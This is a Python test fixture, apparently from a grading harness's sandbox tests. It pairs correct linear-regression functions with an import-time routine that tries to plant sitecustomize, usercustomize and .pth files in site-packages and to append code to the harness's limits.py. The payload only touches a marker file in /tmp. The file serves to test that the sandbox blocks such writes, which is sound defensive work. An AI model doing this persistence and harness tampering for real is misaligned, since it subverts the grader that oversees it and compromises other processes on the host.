"""Threat: writing sitecustomize.py, a .pth file or a module into site-packages (or the
harness's own folder), so that code runs in every later Python process.

Hope: the next grading (or the grader itself) imports the planted code.
Safe outcome: the Python installation and the harness are mounted read-only: every write
fails, nothing is planted, and the (correct) functions all score. (Never run on the
`process` sandbox, which can write wherever the grader's user can.)
"""

import json
import os

import torch
from torch import Tensor

EARNED = [
    "predict: values",
    "mse_loss: value",
    "mse_grad: dw matches autograd",
    "mse_grad: db matches autograd",
    "gd_step: updated parameters",
    "fit: loss history",
    "fit: w reaches least squares",
    "fit: b reaches least squares",
    "fit: loss never increases",
]

PAYLOAD = "import os; os.system('touch /tmp/hostile-site-ran')\n"


def _plant() -> None:
    folders: set[str] = set()
    for module in (torch, json, os):
        where = os.path.dirname(module.__file__ or "")
        folders |= {where, os.path.dirname(where)}
    work = os.path.dirname(os.getcwd())  # home/..: the job's folder (a warm pool's job: ../..)
    harnesses = [os.path.join(w, "lib", "harness") for w in (work, os.path.dirname(work))]
    folders.update(harnesses)
    for folder in sorted(f for f in folders if os.path.isdir(f)):
        for name in ("sitecustomize.py", "usercustomize.py", "hostile-evil.pth"):
            try:
                with open(os.path.join(folder, name), "x") as f:
                    f.write(PAYLOAD)
                print("HOSTILE-LEAK: planted", os.path.join(folder, name))
            except OSError:
                pass
    for harness in harnesses:
        try:
            with open(os.path.join(harness, "limits.py"), "a") as f:
                f.write("\n" + PAYLOAD)
            print("HOSTILE-LEAK: changed the harness in", harness)
        except OSError:
            pass


_plant()


def predict(X: Tensor, w: Tensor, b: Tensor) -> Tensor:
    return torch.mv(X, w) + b


def mse_loss(y_pred: Tensor, y: Tensor) -> Tensor:
    err = y_pred - y
    return (err * err).sum() / err.numel()


def mse_grad(X: Tensor, y: Tensor, w: Tensor, b: Tensor) -> tuple[Tensor, Tensor]:
    err = torch.mv(X, w) + b - y
    scale = 2.0 / X.shape[0]
    return scale * torch.mv(X.t(), err), scale * err.sum()


def gd_step(w: Tensor, b: Tensor, dw: Tensor, db: Tensor, lr: float) -> tuple[Tensor, Tensor]:
    return w - dw * lr, b - db * lr


def fit(X: Tensor, y: Tensor, lr: float, steps: int) -> tuple[Tensor, Tensor, list[float]]:
    w = X.new_zeros(X.shape[1])
    b = X.new_zeros(())
    losses = []
    scale = 2.0 / X.shape[0]
    for _ in range(steps):
        err = torch.mv(X, w) + b - y
        losses.append(float((err * err).mean()))
        w, b = w - lr * scale * torch.mv(X.t(), err), b - lr * scale * err.sum()
    return w, b, losses
